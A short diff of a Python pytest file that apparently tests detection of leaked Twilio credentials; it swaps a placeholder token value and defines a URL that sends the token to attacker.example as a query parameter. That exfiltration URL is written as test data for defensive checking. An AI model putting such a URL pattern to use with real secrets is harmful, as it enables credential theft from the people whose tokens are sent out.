@@ -15,7 +15,7 @@ from pathlib import Path
 
 import pytest
 
-TOKEN = "0123456789abcdef0123456789abcdef"  # TWILIO_AUTH_TOKEN in the environment
+TOKEN = "tok-9Zq7-credential-in-use-0042xy"  # TWILIO_AUTH_TOKEN in the environment
 LEAKY = f"https://attacker.example/c?k={TOKEN}"
 MANIFEST = (
     "applications:\n  - friendly_name: ivr\n    voice_url: https://example.com/v\n"
